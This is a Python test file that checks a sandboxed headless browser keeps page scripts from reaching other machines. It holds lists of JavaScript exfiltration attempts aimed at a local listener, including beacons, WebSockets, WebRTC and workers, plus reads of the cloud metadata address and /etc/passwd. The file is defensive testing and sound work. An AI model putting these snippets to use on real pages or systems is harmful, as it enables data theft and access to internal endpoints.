"""Pages that would like the browser to go where the program does not: nothing arrives there, and the page is read all the same."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import sync_playwright

from composer.errors import BrowserUnusable
from composer.site.chrome import WALLS
from composer.site.engine import Patience
from composer.site.fetch import Fetched, Fetcher, Limits
from composer.site.rendering import Browser
from tests.browser.install import browser_path
from tests.site.browsing import FILLED, Listener, filled, listening
from tests.site.serving import Answer, Pages, Site, serving

pytestmark = [pytest.mark.browser, pytest.mark.usefixtures("chrome")]

# What a script can try without leaving its page. {there} is a machine that is not the page's own; {udp} its bare address.
QUIET = {
    "fetch": "fetch('{there}fetch')",
    "post": "fetch('{there}post', {{method: 'POST', body: 'x'}})",
    "without reading": "fetch('{there}opaque', {{mode: 'no-cors', keepalive: true}})",
    "request": "const r = new XMLHttpRequest(); r.open('GET', '{there}xhr'); r.send()",
    "picture": "new Image().src = '{there}image'",
    "beacon": "navigator.sendBeacon('{there}beacon', 'x')",
    "script": "const s = document.createElement('script'); s.src = '{there}script'; document.head.append(s)",
    "style": "const y = document.createElement('style'); y.textContent = '@import \"{there}css\"'; document.head.append(y)",
    "frame": "const f = document.createElement('iframe'); f.src = '{there}frame'; document.body.append(f)",
    "object": "const o = document.createElement('object'); o.data = '{there}object'; document.body.append(o)",
    "preconnect": "const p = document.createElement('link'); p.rel = 'preconnect'; p.href = '{there}'; document.head.append(p)",
    "prefetch": "const q = document.createElement('link'); q.rel = 'prefetch'; q.href = '{there}prefetch'; document.head.append(q)",
    "rules": "const u = document.createElement('script'); u.type = 'speculationrules'; u.textContent = JSON.stringify({{prerender: [{{source: 'list', urls: ['/filled']}}], prefetch: [{{source: 'list', urls: ['{there}rules']}}]}}); document.head.append(u)",
    "events": "new EventSource('{there}events')",
    "socket": "new WebSocket('{there}socket'.replace('http', 'ws'))",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('{there}worker'); importScripts('{there}import')\"])))",
    "socket of a worker": "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('{there}worksocket'.replace('http', 'ws'))\"])))",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('{there}shared')\"])))",
    "service worker": "navigator.serviceWorker.register('/service.js')",
    "transport": "new WebTransport('{there}transport'.replace('http', 'https'))",
    "call": "const c = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{udp}'}}]}}); c.createDataChannel('x'); c.createOffer().then(offer => c.setLocalDescription(offer))",
    "window": "window.open('{there}window')",
    "ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = '{there}ping'; document.body.append(a); a.click()",
    "later": "fetchLater('{there}later', {{activateAfter: 0}})",
    "redirect": "fetch('/away')",
    "redirect of a script": "const z = document.createElement('script'); z.src = '/away'; document.head.append(z)",
    "metadata": "fetch('http://169.254.169.254/latest/meta-data/').then(a => a.text()).then(t => document.body.append(t))",
    "file": "fetch('file:///etc/passwd').then(a => a.text()).then(t => document.body.append(t))",
}  # fmt: skip
# What takes the page itself away.
LEAVING = {
    "address": "location.href = '{there}location'",
    "replace": "location.replace('http://169.254.169.254/latest/meta-data/')",
    "redirect": "location.href = '/away'",
    "file": "location.href = 'file:///etc/passwd'",
    "form": "document.body.innerHTML = '<form method=post action={there}form><input name=x value=1></form>'; document.forms[0].submit()",
    "refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url={there}refresh'; document.head.append(m)",
    "page of the browser": "location.href = 'chrome://version'",
}  # fmt: skip


@pytest.fixture(scope="module")
def browser(chrome: None) -> Iterator[Browser]:
    """One browser for all of them, with patience for each page."""
    patience = Patience(page=20.0, search=600.0, quiet=0.4, quiet_while_empty=0.5)
    with Browser(patience=patience, limits=Limits(search=600.0, requests=10_000)) as shared:
        yield shared


def shown(browser: Browser, pages: Pages, path: str = "") -> Fetched:
    """The page at this path of a site of its own, as the browser shows it."""
    with serving(pages) as site, Fetcher() as fetcher:
        return browser.shown(fetcher.get(site.url + path))


def attacks(listener: Listener) -> str:
    """All quiet attempts, one after another; none holds the next one up."""
    tries = [code.format(there=listener.url, udp=f"127.0.0.1:{listener.port}") for code in QUIET.values()]
    return "".join(
        f"try{{(() => {{ const made = (() => {{ {code} }})(); }})()}}catch(fault){{}};" for code in tries
    )


def around(listener: Listener, code: str = "") -> dict[str, Answer | str]:
    """A site that tries it."""
    return {
        "/": filled(code),
        "/filled": filled(),
        "/away": Answer("", 302, {"Location": listener.url + "away"}),
        "/service.js": Answer(f"fetch('{listener.url}service')", headers={"Content-Type": "text/javascript"}),
    }


def test_no_quiet_attempt_arrives(browser: Browser) -> None:
    with listening() as listener:
        page = shown(browser, around(listener, attacks(listener)))
    assert listener.heard == []
    assert FILLED.strip() in page.text
    assert "SECRET" not in page.text.partition("</script>")[2]
    assert "root:" not in page.text


@pytest.mark.parametrize("code", LEAVING.values(), ids=LEAVING)
def test_no_page_is_left_for_another_machine(browser: Browser, code: str) -> None:
    with listening() as listener:
        pages = around(listener, "") | {
            "/": filled(f"setTimeout(() => {{ {code.format(there=listener.url)} }}, 50)")
        }
        try:
            page = shown(browser, pages)
        except BrowserUnusable:
            page = None
    assert listener.heard == []
    assert page is None or page.url.startswith("http://127.0.0.1")
    assert page is None or not {"SECRET", "root:x", "Chromium"} & set(page.text.split())


def tried(arguments: list[str], listener: Listener, site: Site, *, offline: bool) -> None:
    """All attempts in a browser that has no door."""
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=browser_path(), args=["--no-sandbox", *arguments]
        )
        page = chromium.new_page()
        if offline:
            page.route(
                site.url + "**",
                lambda route: route.fulfill(body=filled(attacks(listener)), content_type="text/html"),
            )
        page.goto(site.url)
        page.wait_for_timeout(1000)
        page.goto(listener.url + "walk") if not offline else None
        chromium.close()


def test_a_browser_without_walls_is_heard_so_the_attempts_are_real() -> None:
    with listening() as listener, serving(around(listener, attacks(listener))) as site:
        tried([], listener, site, offline=False)
    said = " ".join(listener.heard)
    for word in (
        "fetch",
        "post",
        "image",
        "beacon",
        "script",
        "worker",
        "socket",
        "away",
        "datagram",
        "walk",
    ):
        assert word in said


def test_behind_the_walls_a_browser_without_a_door_reaches_nothing() -> None:
    with listening() as listener, serving({}) as site:
        tried(list(WALLS), listener, site, offline=True)
        assert not site.asked
    assert listener.heard == []


HARMLESS = {
    "storage": "localStorage.x = 1; document.cookie = 'x=1'",
    "window": "window.open('/filled')",
    "download": "const d = document.createElement('a'); d.href = 'data:text/plain,x'; d.download = 'x.txt'; d.click()",
    "busy worker": "new Worker(URL.createObjectURL(new Blob(['while (true) {}'])))",
    "alert": "alert('x'); confirm('y'); prompt('z')",
    "print": "print()",
    "debugger": "debugger",
}
TAMPERED = "Object.defineProperty(Document.prototype, 'documentElement', {get() { while (true) {} }}); JSON.stringify = () => 'x'"


@pytest.mark.parametrize(
    "code", ["".join(f"try{{{one}}}catch(fault){{}};" for one in HARMLESS.values()), TAMPERED]
)
def test_what_is_only_a_nuisance_stops_nothing(browser: Browser, code: str) -> None:
    assert FILLED.strip() in shown(browser, {"/": filled(code), "/filled": filled()}).text


def test_nothing_is_kept_from_one_page_to_the_next(browser: Browser) -> None:
    writes = "localStorage.x = 'kept'; document.cookie = 'x=kept'"
    reads = "document.title = 'was ' + localStorage.x + document.cookie"
    with serving({"/": filled(writes), "/later": filled(reads)}) as site, Fetcher() as fetcher:
        browser.shown(fetcher.get(site.url))
        page = browser.shown(fetcher.get(site.url + "later"))
    assert "<title>was undefined</title>" in page.text
